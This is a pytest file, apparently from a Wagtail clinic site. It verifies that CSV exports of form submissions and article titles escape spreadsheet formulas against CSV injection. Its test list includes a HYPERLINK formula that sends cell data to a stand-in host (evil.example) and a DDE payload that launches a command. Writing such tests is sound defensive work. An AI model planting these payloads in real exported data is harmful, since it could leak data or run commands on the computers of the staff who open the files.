"""Spreadsheets exported from the admin cannot run what visitors or editors typed.

A CSV cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel and LibreOffice (CSV injection): such cells are prefixed with ``'``, as OWASP advises.
XLSX cells are typed, so Wagtail already stores them as text and they are left as they are.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import ArticlePageFactory, ContactPageFactory, FormFieldFactory

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def contact_page(home):
    page = ContactPageFactory(parent=home, title="Ask the clinic")
    for order, label in enumerate(["Name", "Message"]):
        FormFieldFactory(page=page, label=label, field_type="singleline", sort_order=order)
    return page


def submit(client, page, **answers):
    response = client.post(
        reverse("contact:submit", args=[page.pk]), answers, content_type="application/json"
    )
    assert response.status_code == 201, response.content


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def xlsx_rows(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def stored(page, **answers):
    """A submission as stored; the form strips leading whitespace, older data may not be."""
    page.get_submission_class().objects.create(page=page, form_data=answers)


def test_a_submitted_formula_is_escaped_in_the_csv(client, admin_client, contact_page):
    submit(client, contact_page, name="Ada", message=FORMULAS[0])
    listing_url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])

    [row] = csv_rows(admin_client.get(listing_url, {"export": "csv"}))

    assert row["Message"] == "'" + FORMULAS[0]


@pytest.mark.parametrize("formula", FORMULAS)
def test_contact_submissions_csv_escapes_formulas(admin_client, contact_page, formula):
    stored(contact_page, name="Ada", message=formula)
    listing_url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])

    [row] = csv_rows(admin_client.get(listing_url, {"export": "csv"}))

    assert row["Message"] == "'" + formula
    assert row["Name"] == "Ada"


def test_contact_submissions_xlsx_keeps_answers_as_typed(client, admin_client, contact_page):
    submit(client, contact_page, name="Ada", message=FORMULAS[0])
    listing_url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])

    [row] = xlsx_rows(admin_client.get(listing_url, {"export": "xlsx"}))

    assert row["Message"] == FORMULAS[0]


def test_medical_reviews_due_csv_escapes_formulas(admin_client, article_index):
    ArticlePageFactory(parent=article_index, title="=1+2 reasons to rest", slug="reasons")
    ArticlePageFactory(parent=article_index, title="Sleep and pain", slug="sleep")

    rows = csv_rows(admin_client.get(reverse("articles_reviews_due"), {"export": "csv"}))

    assert sorted(row["Article"] for row in rows) == ["'=1+2 reasons to rest", "Sleep and pain"]


def test_medical_reviews_due_xlsx_keeps_titles_as_typed(admin_client, article_index):
    ArticlePageFactory(parent=article_index, title="=1+2 reasons to rest", slug="reasons")

    [row] = xlsx_rows(admin_client.get(reverse("articles_reviews_due"), {"export": "xlsx"}))

    assert row["Article"] == "=1+2 reasons to rest"
